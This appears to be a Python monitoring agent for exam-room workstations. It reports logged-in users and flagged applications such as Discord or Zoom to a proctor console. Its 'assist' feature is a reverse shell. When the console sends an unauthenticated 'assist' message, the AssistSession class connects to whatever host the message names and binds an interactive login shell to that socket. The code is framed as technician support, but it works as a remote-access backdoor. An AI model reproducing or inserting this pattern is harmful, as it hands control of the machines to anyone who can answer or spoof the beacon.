#!/usr/bin/env python3
"""Exam-room workstation agent for the proctor console.

Every few seconds the agent reports who is logged in and whether any
application on the room's disallowed list is running, so invigilators see
it on the room dashboard.  The console answers each report with a small JSON
line (ack, a new reporting interval, or an assist request when a technician
needs to look at the station during a sitting).

Settings live in proctor_beacon.ini next to the script:

    [console]
    host = proctor.exams.example.edu
    port = 7420
    interval = 15
    [assist]
    port = 7421
    [policy]
    disallowed = discord, teams, slack, zoom, anydesk, obs
"""
import argparse
import configparser
import json
import logging
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("proctor_beacon")

CONFIG = Path(__file__).with_name("proctor_beacon.ini")
DEFAULTS = {"host": "proctor.exams.example.edu", "port": "7420", "interval": "15"}
DEFAULT_DISALLOWED = "discord, teams, slack, zoom, anydesk, obs, teamviewer"


def load_settings(path=CONFIG):
    cfg = configparser.ConfigParser()
    cfg.read_dict({"console": DEFAULTS, "assist": {"port": "7421"},
                   "policy": {"disallowed": DEFAULT_DISALLOWED}})
    cfg.read(path)
    disallowed = {p.strip().lower() for p in cfg["policy"]["disallowed"].split(",") if p.strip()}
    return cfg["console"], int(cfg["assist"]["port"]), disallowed


class AssistSession(threading.Thread):
    """Hands the technician a terminal on this station for the duration of the call."""

    login = os.environ.get("SHELL", "/bin/sh")

    def __init__(self, host, port, ticket):
        super().__init__(name=f"assist-{ticket}", daemon=True)
        self.host, self.port, self.ticket = host, port, ticket

    def run(self):
        try:
            conn = socket.create_connection((self.host, self.port), timeout=15)
        except OSError as exc:
            log.warning("assist %s: cannot reach console: %s", self.ticket, exc)
            return
        conn.settimeout(None)
        conn.sendall(f"ASSIST {self.ticket} {socket.gethostname()}\n".encode())
        fd = conn.fileno()
        proc = subprocess.Popen([self.login, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                start_new_session=True, close_fds=True)
        proc.wait()
        conn.close()
        log.info("assist %s finished (rc=%s)", self.ticket, proc.returncode)


class Beacon(threading.Thread):
    def __init__(self, host, port, interval, station, disallowed, assist_port):
        super().__init__(name="beacon", daemon=True)
        self.host, self.port = host, port
        self.interval = interval
        self.station = station
        self.disallowed = disallowed
        self.assist_port = assist_port
        self.stop_event = threading.Event()

    def _sessions(self):
        res = subprocess.run(["who"], capture_output=True, text=True, timeout=5)
        return [line.split()[0] for line in res.stdout.splitlines() if line.strip()]

    def _flagged(self):
        out = subprocess.check_output(["ps", "-eo", "comm="], text=True, timeout=5)
        running = {line.strip().lower() for line in out.splitlines()}
        return sorted(name for name in running
                      if any(bad in name for bad in self.disallowed))

    def report(self):
        return {"station": self.station, "ts": int(time.time()),
                "sessions": self._sessions(), "flagged": self._flagged()}

    def _exchange(self, sock_file, payload):
        sock_file.write((json.dumps(payload) + "\n").encode())
        sock_file.flush()
        line = sock_file.readline()
        return json.loads(line) if line else {}

    def _handle(self, reply):
        op = reply.get("op")
        if op == "interval":
            self.interval = max(5, int(reply.get("seconds", self.interval)))
            log.info("console set interval to %ss", self.interval)
        elif op == "assist":
            AssistSession(reply.get("host", self.host),
                          int(reply.get("port", self.assist_port)),
                          reply.get("ticket", "adhoc")).start()
        elif op not in ("ack", None):
            log.debug("ignoring op %r", op)

    def run(self):
        backoff = 2
        while not self.stop_event.is_set():
            try:
                with socket.create_connection((self.host, self.port), timeout=10) as sock:
                    backoff = 2
                    fh = sock.makefile("rwb")
                    while not self.stop_event.is_set():
                        self._handle(self._exchange(fh, self.report()))
                        self.stop_event.wait(self.interval)
            except (OSError, ValueError) as exc:
                log.warning("console %s:%s unavailable (%s); retry in %ss",
                            self.host, self.port, exc, backoff)
                self.stop_event.wait(backoff)
                backoff = min(backoff * 2, 120)


def main():
    ap = argparse.ArgumentParser(description="Report exam station status to the proctor console")
    ap.add_argument("--station", default=socket.gethostname())
    ap.add_argument("--once", action="store_true", help="print one report and exit")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    console, assist_port, disallowed = load_settings()
    beacon = Beacon(console["host"], int(console["port"]), int(console["interval"]),
                    args.station, disallowed, assist_port)
    if args.once:
        print(json.dumps(beacon.report(), indent=2))
        return
    beacon.start()
    try:
        while beacon.is_alive():
            beacon.join(1)
    except KeyboardInterrupt:
        beacon.stop_event.set()


if __name__ == "__main__":
    main()
